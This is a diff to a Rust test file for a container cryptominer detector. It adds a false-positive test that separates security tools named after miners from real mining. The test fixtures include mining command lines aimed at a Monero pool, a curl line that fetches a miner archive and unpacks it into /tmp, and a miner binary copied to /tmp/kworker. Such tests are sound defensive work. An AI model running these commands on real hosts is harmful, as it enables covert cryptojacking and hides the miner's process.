@@ -3,7 +3,9 @@
 //! - a blockchain full node's peer and priority-node options naming a host that is also a pool;
 //! - a program whose name collides with a miner's in unrelated software;
 //! - non-Monero addresses without miner context; a lone Monero address in env (at most medium);
-//! - DNS sinkhole and blocklist configurations naming pool domains.
+//! - DNS sinkhole and blocklist configurations naming pool domains;
+//! - security tooling about miners: detector/exporter images named after the miner, and rule,
+//!   signature and document files named after it (a YARA scan, a ClamAV database).
 //!
 //! (The GPU-instance node signal on an approved GPU pod: tests/detect_gpu.rs.)
 #![allow(
@@ -503,4 +505,114 @@ fn fp_dns_sinkholes_and_blocklists() {
     }
     let counts = check(&cases);
     assert_class_size(&counts, 15, 100);
+}
+
+#[test]
+fn fp_security_tooling_named_after_the_miner() {
+    let mut cases = Vec::new();
+    let tooling = [
+        "detector", "exporter", "scanner", "monitor", "rules", "hunter", "blocker", "killer",
+        "guard", "honeypot", "stats",
+    ];
+    for miner in [
+        "xmrig",
+        "t-rex",
+        "lolminer",
+        "nbminer",
+        "cpuminer",
+        "phoenixminer",
+    ] {
+        for word in tooling {
+            for image in [
+                format!("ghcr.io/acme-sec/{miner}-{word}:0.3.1"),
+                format!("docker.io/secteam/{word}_{miner}:1.0"),
+            ] {
+                // the tool alone: a low note at most, never an incident
+                cases.push(Case::one(
+                    format!("{image} alone"),
+                    container(&image, &["/app/run", "--interval", "60s"], &[]),
+                    Expect::Exactly(Severity::Low),
+                ));
+                // twin: the same image doing the mining is the miner
+                cases.push(
+                    Case::one(
+                        format!("{image} mining"),
+                        container(
+                            &image,
+                            &[],
+                            &[
+                                "-o",
+                                "pool.supportxmr.com:443",
+                                "-u",
+                                XMR,
+                                "--donate-level",
+                                "1",
+                            ],
+                        ),
+                        Expect::Miner,
+                    )
+                    .also(Expect::Rule(format!("builtin/miner-image/{miner}"))),
+                );
+            }
+        }
+        // twin: the miner's own image is critical alone
+        cases.push(Case::one(
+            format!("{miner} image"),
+            container(&format!("docker.io/someone/{miner}:latest"), &[], &[]),
+            Expect::Exactly(Severity::Critical),
+        ));
+        // rule, signature and document files named after the miner are a scanner's input
+        for (k, argv) in [
+            vec![
+                "yara",
+                "-r",
+                "-s",
+                &format!("/rules/CoinMiner_Linux_{miner}.yar"),
+                "/host/var/lib/containerd",
+            ],
+            vec!["yara", &format!("/opt/rules/{miner}.yara"), "/proc"],
+            vec!["clamscan", "-d", &format!("/db/{miner}.ndb"), "-r", "/host"],
+            vec![
+                "sh",
+                "-c",
+                &format!("grep -rf /etc/hunt/{miner}.rules /host/proc/*/cmdline || true"),
+            ],
+            vec!["cat", &format!("/docs/{miner}-incident.md")],
+            vec![
+                "python3",
+                "/app/report.py",
+                "--iocs",
+                &format!("/data/{miner}.csv"),
+            ],
+        ]
+        .into_iter()
+        .enumerate()
+        {
+            let argv: Vec<&str> = argv.iter().map(|s| s.as_ref()).collect();
+            cases.push(Case::one(
+                format!("{miner} rules#{k}: {argv:?}"),
+                container("ghcr.io/acme-sec/hunt:1.0", &argv, &[]),
+                Expect::Benign,
+            ));
+        }
+        // twins: the miner's binary, archive or config in a path is the miner
+        for argv in [
+            vec![
+                "sh",
+                "-c",
+                &format!("curl -sL http://10.0.0.9/{miner}.tar.gz | tar xz -C /tmp"),
+            ],
+            vec!["/bin/run", "--config", &format!("/etc/{miner}/config.json")],
+            vec!["cp", &format!("/usr/bin/{miner}"), "/tmp/kworker"],
+        ] {
+            let argv: Vec<&str> = argv.iter().map(|s| s.as_ref()).collect();
+            cases.push(Case::one(
+                format!("{miner} path twin: {argv:?}"),
+                container("alpine:3.20", &argv, &[]),
+                Expect::Miner,
+            ));
+        }
+    }
+    let counts = check(&cases);
+    assert_class_size(&counts, 250, 36);
 }
